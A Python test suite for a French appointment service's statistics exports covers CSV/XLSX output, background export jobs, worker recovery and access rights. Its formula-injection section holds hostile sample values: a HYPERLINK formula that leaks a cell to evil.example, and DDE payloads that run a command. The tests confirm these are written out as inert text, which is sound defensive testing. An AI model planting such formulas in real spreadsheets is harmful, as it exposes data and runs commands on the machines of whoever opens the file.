"""Statistics as files: the monthly figures in CSV and XLSX, the rdv list built in the background with its progress."""
from __future__ import annotations

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
from sqlalchemy import select

from lapins.infra.extensions import db as _db
from lapins.models import Export, ExportStatus, Role
from lapins.stats import exports
from lapins.stats.exports import FIGURE_HEADERS, RDV_HEADERS
from tests.conftest import csrf_token_from
from tests.test_stats import NOW, frozen_time, paris  # noqa: F401  (fixtures: time frozen, October 2026 in Paris)

PERIOD = "du=2026-10&au=2026-11"


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))


def test_the_figures_download_as_csv_with_french_headers(client, auth, paris):
    auth.login(paris.agent)
    response = client.get(f"/statistiques/organisation/{paris.organisation.id}/statistiques.csv?{PERIOD}")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"] and "2026-10-2026-11.csv" in response.headers["Content-Disposition"]
    rows = read_csv(response)
    assert rows[0] == FIGURE_HEADERS and rows[0][4] == "Taux d'absence (%)"
    assert rows[0][10:14] == ["Délai médian de re-réservation (h)", "Propositions de créneaux libérés",
                              "Propositions acceptées", "Taux d'acceptation (%)"]
    assert rows[1] == ["2026-10", "9", "4", "1", "20,0", "2", "1", "33,3", "1", "1", "6,0", "3", "1", "33,3", "2", "3",
                       "0", "0", "0", "0", "", "0", "0", "",  # no collective session: no places, no rates
                       "9", "0", "0", "0", "0", "0,0"]  # all nine booked by an agent, none online
    assert rows[2][11:14] == ["1", "0", "0,0"]
    assert rows[2][:5] == ["2026-11", "1", "0", "1", "100,0"]
    assert rows[3][:4] == ["Total", "10", "4", "2"]


def test_the_figures_download_as_xlsx_with_the_same_numbers(client, auth, paris):
    auth.login(paris.admin)
    response = client.get(f"/statistiques/territoire/{paris.territory.id}/statistiques.xlsx?{PERIOD}")
    assert response.status_code == 200 and response.mimetype.endswith("spreadsheetml.sheet")
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == FIGURE_HEADERS
    assert rows[1] == ["2026-10", 9, 4, 1, 20.0, 2, 1, 33.3, 1, 1, 6.0, 3, 1, 33.3, 2, 3, 0, 0, 0, 0, None, 0, 0, None,
                       9, 0, 0, 0, 0, 0.0]
    assert rows[2][:5] == ["2026-11", 1, 0, 1, 100.0]


def ask_for_rdv_list(client, paris, file_format="csv", query=PERIOD, kind="organisation", target_id=None):
    target_id = target_id or paris.organisation.id
    page = client.get(f"/statistiques/{kind}/{target_id}?{query}").get_data(as_text=True)
    data = dict(pair.split("=") for pair in query.split("&"))
    return client.post(f"/statistiques/{kind}/{target_id}/exports",
                       data={"csrf_token": csrf_token_from(page), "file_format": file_format, **data})


def test_the_rdv_list_is_built_in_the_background_and_downloads(client, auth, paris, monkeypatch):
    monkeypatch.setattr(exports, "BATCH", 4)
    progress = []
    write = exports._CsvSink.write

    def record(sink, rows):
        progress.append(_db.session.scalar(select(Export.progress_done)))
        write(sink, rows)

    monkeypatch.setattr(exports._CsvSink, "write", record)
    auth.login(paris.agent)
    response = ask_for_rdv_list(client, paris)
    assert response.status_code == 302
    export = _db.session.scalar(select(Export))
    assert response.location.endswith(f"/statistiques/exports/{export.id}")
    assert progress == [0, 4, 8]  # committed after each batch of 4
    assert export.status == ExportStatus.DONE and (export.progress_done, export.progress_total) == (10, 10)
    assert export.requested_by_id == paris.agent.id and export.params["du"] == "2026-10"

    page = client.get(response.location).get_data(as_text=True)
    assert "Prêt" in page and "10 rendez-vous sur 10" in page and 'http-equiv="refresh"' not in page
    download = client.get(f"/statistiques/exports/{export.id}/fichier")
    assert download.status_code == 200 and download.mimetype == "text/csv"
    rows = read_csv(download)
    assert rows[0] == RDV_HEADERS and len(rows) == 11
    late = next(row for row in rows if row[0] == str(paris.late.id))
    assert late[1:4] == ["2026-10", "12/10/2026", "10:00"]
    assert late[4:] == ["PMI Paris 11", "", "Claire Martin", "Consultation nourrisson", "Annulé par l'usager",
                        "La famille", "via le lien", "24", "Par un agent", ""]  # "": no catalogue motif (issue 23.6)
    revoked = next(row for row in rows if row[0] == str(paris.revoked.id))
    assert revoked[8:12] == ["Annulé par le service", "Le service", "depuis l'agenda", "30"]
    midnight = next(row for row in rows if row[2] == "01/11/2026")
    assert midnight[1:4] == ["2026-11", "01/11/2026", "00:30"]  # the territory's zone, not UTC
    text = download.data.decode("utf-8-sig")
    assert "Diallo" not in text and "Awa" not in text and "+33612345678" not in text


def test_a_pending_export_shows_its_progress_and_refreshes(client, auth, paris):
    from lapins.stats.figures import Filters
    from datetime import date

    export = exports.request_export(paris.agent, paris.territory.id, paris.organisation.id,
                                    Filters(date(2026, 10, 1), date(2026, 11, 1)), "xlsx")
    _db.session.commit()
    auth.login(paris.agent)
    page = client.get(f"/statistiques/exports/{export.id}").get_data(as_text=True)
    assert "En attente" in page and '<meta http-equiv="refresh" content="2">' in page
    assert client.get(f"/statistiques/exports/{export.id}/fichier").status_code == 404  # not ready yet

    exports.run_export(export.id)
    exports.run_export(export.id)  # delivered twice: nothing more happens
    _db.session.expire_all()
    assert export.status == ExportStatus.DONE and export.progress_done == 10
    page = client.get(f"/statistiques/exports/{export.id}").get_data(as_text=True)
    assert "Prêt" in page and "rendez-vous-2026-10-2026-11.xlsx" in page
    download = client.get(f"/statistiques/exports/{export.id}/fichier")
    sheet = openpyxl.load_workbook(io.BytesIO(download.data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == RDV_HEADERS and len(rows) == 11


def test_a_territory_export_is_for_its_administrators(client, auth, paris):
    auth.login(paris.admin)
    response = ask_for_rdv_list(client, paris, kind="territoire", target_id=paris.territory.id)
    export = _db.session.scalar(select(Export))
    assert export.organisation_id is None and export.status == ExportStatus.DONE
    assert client.get(response.location).status_code == 200
    auth.logout()
    auth.login(paris.agent)
    page = client.get(f"/statistiques/organisation/{paris.organisation.id}").get_data(as_text=True)
    refused = client.post(f"/statistiques/territoire/{paris.territory.id}/exports",
                          data={"csrf_token": csrf_token_from(page), "file_format": "csv"})
    assert refused.status_code == 403
    assert client.get(f"/statistiques/exports/{export.id}/fichier").status_code == 403


def test_an_export_is_for_who_asked_and_the_administrators(client, auth, factories, paris):
    auth.login(paris.agent)
    ask_for_rdv_list(client, paris)
    export = _db.session.scalar(select(Export))
    auth.logout()

    auth.login(paris.admin)  # an administrator of the same organisation
    assert client.get(f"/statistiques/exports/{export.id}/fichier").status_code == 200
    auth.logout()

    auth.login(paris.colleague)  # an agent of the organisation who did not ask
    assert client.get(f"/statistiques/exports/{export.id}").status_code == 403
    assert client.get(f"/statistiques/exports/{export.id}/fichier").status_code == 403
    auth.logout()

    stranger = factories.AgentFactory(organisation=factories.OrganisationFactory(), organisation__role=Role.ADMIN)
    auth.login(stranger)
    assert client.get(f"/statistiques/exports/{export.id}").status_code == 404
    assert client.get(f"/statistiques/exports/{export.id}/fichier").status_code == 404
    assert client.get("/statistiques/exports/999999").status_code == 404


def test_an_export_with_bad_parameters_is_refused_in_french(client, auth, paris):
    auth.login(paris.agent)
    response = ask_for_rdv_list(client, paris, query="du=2026-10&au=nimporte")
    assert response.status_code == 302
    page = client.get(response.location).get_data(as_text=True)
    assert "Le mois de fin n&#39;est pas un mois valide" in page
    assert _db.session.scalar(select(Export)) is None


@pytest.mark.parametrize("file_format", ["pdf", "csv;drop"])
def test_an_unknown_file_format_is_not_found(client, auth, paris, file_format):
    auth.login(paris.agent)
    assert client.get(f"/statistiques/organisation/{paris.organisation.id}/statistiques.{file_format}").status_code == 404


def test_a_failed_export_says_so(client, auth, paris, monkeypatch):
    def broken(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(exports, "rdv_batches", broken)
    auth.login(paris.agent)
    response = ask_for_rdv_list(client, paris)
    page = client.get(response.location).get_data(as_text=True)
    assert "Échec" in page and "L&#39;export n&#39;a pas pu être construit" in page
    assert client.get(response.location + "/fichier").status_code == 404


# --- A worker that dies ------------------------------------------------------------------------------------------

class WorkerKilled(BaseException):
    """What the worker's process being killed looks like from inside: nothing after it runs, no except clause."""


def dying_after(monkeypatch, batches: int, times: int | None = None):
    """The next `times` workers (all, if None) die once they have written `batches` batches of 4 rdvs."""
    monkeypatch.setattr(exports, "BATCH", 4)
    build = exports.rdv_batches
    deaths = []

    def batches_then_death(*args, **kwargs):
        if times is not None and len(deaths) >= times:
            yield from build(*args, **kwargs)
            return
        for index, batch in enumerate(build(*args, **kwargs)):
            if index == batches:
                deaths.append(index)
                raise WorkerKilled
            yield batch

    monkeypatch.setattr(exports, "rdv_batches", batches_then_death)
    return deaths


def ask_and_let_the_worker_die(client, paris):
    with pytest.raises(WorkerKilled):  # eager Celery: the task runs inside the request, and dies there
        ask_for_rdv_list(client, paris)
    _db.session.rollback()
    return _db.session.scalar(select(Export))


def run_beat_job(app):
    from lapins.infra.celery_app import task_named as of_this_app

    with app.app_context():
        of_this_app("lapins.tasks.reclaim_stale_exports").delay()
    _db.session.expire_all()


def test_an_export_whose_worker_died_is_built_again_by_the_beat(app, client, auth, paris, monkeypatch, frozen_time):
    deaths = dying_after(monkeypatch, batches=2, times=1)
    auth.login(paris.agent)
    export = ask_and_let_the_worker_die(client, paris)
    assert deaths and export.status == ExportStatus.RUNNING and export.progress_done == 8
    assert export.heartbeat_at == NOW and export.attempts == 1
    page = client.get(f"/statistiques/exports/{export.id}").get_data(as_text=True)
    assert "En cours" in page and "8 rendez-vous sur 10" in page

    frozen_time.shift(timedelta(seconds=app.config["EXPORT_STALE_AFTER_SECONDS"] - 10))
    run_beat_job(app)  # not silent for long enough: its worker may only be slow
    assert export.status == ExportStatus.RUNNING and export.attempts == 1

    frozen_time.shift(timedelta(seconds=20))
    run_beat_job(app)  # silent for longer than EXPORT_STALE_AFTER_SECONDS: built again, from scratch
    assert export.status == ExportStatus.DONE and export.attempts == 2
    assert (export.progress_done, export.progress_total) == (10, 10)
    page = client.get(f"/statistiques/exports/{export.id}").get_data(as_text=True)
    assert "Prêt" in page and "10 rendez-vous sur 10" in page
    rows = read_csv(client.get(f"/statistiques/exports/{export.id}/fichier"))
    assert len(rows) == 11 and len({row[0] for row in rows[1:]}) == 10  # every rdv once, none twice


def test_an_export_interrupted_too_often_says_to_ask_again(app, client, auth, paris, monkeypatch, frozen_time):
    dying_after(monkeypatch, batches=1)
    auth.login(paris.agent)
    export = ask_and_let_the_worker_die(client, paris)
    stale = timedelta(seconds=app.config["EXPORT_STALE_AFTER_SECONDS"] + 1)
    for attempt in range(2, exports.MAX_ATTEMPTS + 1):
        frozen_time.shift(stale)
        with pytest.raises(WorkerKilled):
            run_beat_job(app)
        _db.session.rollback()
        _db.session.expire_all()
        assert export.status == ExportStatus.RUNNING and export.attempts == attempt
    page = client.get(f"/statistiques/exports/{export.id}").get_data(as_text=True)
    assert f"repris après une interruption (essai {exports.MAX_ATTEMPTS} sur {exports.MAX_ATTEMPTS})" in page

    frozen_time.shift(stale)
    run_beat_job(app)
    assert export.status == ExportStatus.FAILED and export.attempts == exports.MAX_ATTEMPTS
    page = client.get(f"/statistiques/exports/{export.id}").get_data(as_text=True)
    assert "Échec" in page and "L&#39;export a été interrompu ; relancez-le." in page
    assert 'http-equiv="refresh"' not in page
    assert client.get(f"/statistiques/exports/{export.id}/fichier").status_code == 404
    frozen_time.shift(stale)
    run_beat_job(app)  # a failed export stays failed
    assert export.status == ExportStatus.FAILED and export.attempts == exports.MAX_ATTEMPTS


def test_a_slow_worker_whose_export_was_taken_up_stops_writing_to_it(app, client, auth, paris, monkeypatch,
                                                                     frozen_time):
    """Two workers never both build one export: the first, silent too long, loses its claim to the second."""
    monkeypatch.setattr(exports, "BATCH", 4)
    build, workers = exports.rdv_batches, []

    def stalling_workers(*args, **kwargs):
        worker = len(workers) + 1
        workers.append(worker)
        for index, batch in enumerate(build(*args, **kwargs)):
            if worker == 2 and index == 2:
                raise WorkerKilled  # the second worker dies after 8 rdvs, its export still running
            yield batch
            if worker == 1 and index == 0:
                # The first worker stalls after its first batch; the beat hands the export to a second one.
                frozen_time.shift(timedelta(seconds=app.config["EXPORT_STALE_AFTER_SECONDS"] + 1))
                with pytest.raises(WorkerKilled):
                    run_beat_job(app)
                _db.session.rollback()

    monkeypatch.setattr(exports, "rdv_batches", stalling_workers)
    auth.login(paris.agent)
    ask_for_rdv_list(client, paris)  # the first worker wakes up after the second died, and finds its claim gone
    _db.session.expire_all()
    export = _db.session.scalar(select(Export))
    assert workers == [1, 2]
    assert export.status == ExportStatus.RUNNING and export.attempts == 2 and export.progress_done == 8
    page = client.get(f"/statistiques/exports/{export.id}").get_data(as_text=True)
    assert "8 rendez-vous sur 10" in page and "essai 2 sur 3" in page

    frozen_time.shift(timedelta(seconds=app.config["EXPORT_STALE_AFTER_SECONDS"] + 1))
    run_beat_job(app)  # the second worker's silence in turn: a third builds it
    assert export.status == ExportStatus.DONE and export.attempts == 3 and export.progress_done == 10
    assert len(read_csv(client.get(f"/statistiques/exports/{export.id}/fichier"))) == 11


def test_an_export_whose_task_was_lost_is_queued_again(app, auth, paris, frozen_time):
    from datetime import date

    from lapins.stats.figures import Filters

    export = exports.request_export(paris.agent, paris.territory.id, paris.organisation.id,
                                    Filters(date(2026, 10, 1), date(2026, 11, 1)), "csv")
    _db.session.commit()  # recorded, but its task never reached a worker
    run_beat_job(app)
    assert export.status == ExportStatus.PENDING
    frozen_time.shift(timedelta(seconds=app.config["EXPORT_STALE_AFTER_SECONDS"] + 1))
    run_beat_job(app)
    assert export.status == ExportStatus.DONE and export.attempts == 1


def test_the_beat_takes_up_stale_exports_every_minute():
    from lapins.tasks import beat_schedule

    job = beat_schedule()["exports-reclaim"]
    assert job["task"] == "lapins.tasks.reclaim_stale_exports" and job["schedule"] == 60


# --- Formula injection: what an administrator types is never computed by a spreadsheet ---------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Motif")'
DDE = '@SUM(1+1)*cmd|" /C calc"!A0'


def xlsx_rows(data: bytes) -> list[list]:
    """Every cell of the first sheet, checking none is a formula (openpyxl reads a formula as its text, type "f")."""
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_a_motif_and_a_lieu_named_as_formulas_reach_the_territorys_spreadsheet_as_text(client, auth, db, paris):
    """The attack: an organisation's administrator names a motif and a lieu as formulas in the admin forms, then a
    territory administrator downloads the rdv list."""
    from lapins.models.territory_admins import TerritoryAdmin
    from tests.test_admin import post

    auth.login(paris.admin)
    assert post(client, f"/admin/motifs/{paris.motif.id}/modifier", {
        "name": HYPERLINK, "duration_minutes": "30", "location_type": "on_site", "color": "#000091",
        "cancellation_limit_hours": "4", "reminder_offsets": "", "notify": "y", "active": "y"}).status_code == 302
    # A lieu's name follows the one rule for places since issue 19.14: the form refuses the formula...
    assert post(client, f"/admin/lieux/{paris.lieu.id}/modifier",
                {"name": DDE, "address": "1 rue de Belleville", "phone": "", "active": "y"}).status_code == 422
    paris.lieu.name = DDE  # ...which a lieu named before that rule may still hold
    db.session.commit()
    db.session.expire_all()
    assert (paris.motif.name, paris.lieu.name) == (HYPERLINK, DDE)  # the files must cope
    auth.logout()

    head = paris.colleague  # now the territory's own administrator, not the organisation's
    db.session.add(TerritoryAdmin(agent_id=head.id, territory_id=paris.territory.id))
    db.session.commit()
    auth.login(head)
    for file_format in ("csv", "xlsx"):
        ask_for_rdv_list(client, paris, file_format=file_format, kind="territoire", target_id=paris.territory.id)
    csv_export, xlsx_export = db.session.scalars(select(Export).order_by(Export.id)).all()

    rows = read_csv(client.get(f"/statistiques/exports/{csv_export.id}/fichier"))
    seen = next(row for row in rows[1:] if row[5])
    assert (seen[5], seen[7]) == ("'" + DDE, "'" + HYPERLINK)
    assert [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []

    rows = xlsx_rows(client.get(f"/statistiques/exports/{xlsx_export.id}/fichier").data)
    seen = next(row for row in rows[1:] if row[5])
    assert (seen[5], seen[7]) == (DDE, HYPERLINK)  # the text as typed, kept a string


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_written_as_text(paris, db, factories, start):
    """OWASP's list: the admin forms trim spaces, but a name can also come from an import or the API."""
    from datetime import date

    from lapins.stats.figures import Filters

    name = f"{start}1+cmd|' /C calc'!A0"
    paris.motif.name, paris.lieu.name, paris.organisation.name = name, f"{start}lieu", f"{start}PMI"
    paris.agent.first_name = f"{start}Claire"
    db.session.commit()
    files = {}
    for file_format in ("csv", "xlsx"):
        export = exports.request_export(paris.agent, paris.territory.id, paris.organisation.id,
                                        Filters(date(2026, 10, 1), date(2026, 11, 1)), file_format)
        db.session.commit()
        exports.run_export(export.id)
        db.session.expire_all()
        files[file_format] = export.content

    rows = list(csv.reader(io.StringIO(files["csv"].decode("utf-8-sig"), newline=""), delimiter=";"))
    assert len(rows) == 11
    assert [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    seen = next(row for row in rows[1:] if row[5])
    assert seen[4:8] == [f"'{start}PMI", f"'{start}lieu", f"'{start}Claire Martin", "'" + name]

    rows = xlsx_rows(files["xlsx"])
    seen = next(row for row in rows[1:] if row[5])
    # A raw carriage return is read back as a line feed, unless the writer escaped it (openpyxl with lxml, which
    # caldav brings, writes &#13;): text all the same.
    read = start.replace("\r", "\n")
    assert [value.replace("\r", "\n") for value in seen[4:8]] == [
        f"{read}PMI", f"{read}lieu", f"{read}Claire Martin", name.replace("\r", "\n")]
    late = next(row for row in rows[1:] if row[0] == paris.late.id)  # numbers stay numbers
    assert late[11] == 24


def test_a_name_with_control_characters_does_not_break_the_xlsx(paris, db):
    """openpyxl refuses control characters: one odd name must not fail the whole export."""
    from datetime import date

    from lapins.stats.figures import Filters

    paris.motif.name = "Pesée\x01\x0b du #N/A"
    paris.other_motif.name = "#N/A"  # an error code, as a name
    db.session.commit()
    export = exports.request_export(paris.agent, paris.territory.id, paris.organisation.id,
                                    Filters(date(2026, 10, 1), date(2026, 11, 1)), "xlsx")
    db.session.commit()
    exports.run_export(export.id)
    db.session.expire_all()
    assert export.status == ExportStatus.DONE
    motifs = {row[7] for row in xlsx_rows(export.content)[1:]}
    assert motifs == {"Pesée du #N/A", "#N/A"}


def test_the_figures_files_write_their_text_cells_as_text():
    """The monthly figures hold only our labels and numbers; their writer is the same one, tested here directly."""
    rows = [["=1+1", 2, -3, 4.5, None, "-"]]
    assert exports.to_csv(["@A", "B"], rows).decode("utf-8-sig").splitlines() == ["'@A;B", "'=1+1;2;-3;4,5;;'-"]
    assert xlsx_rows(exports.to_xlsx(["@A", "B"], rows, "Statistiques")) == [["@A", "B", None, None, None, None],
                                                                            ["=1+1", 2, -3, 4.5, None, "-"]]
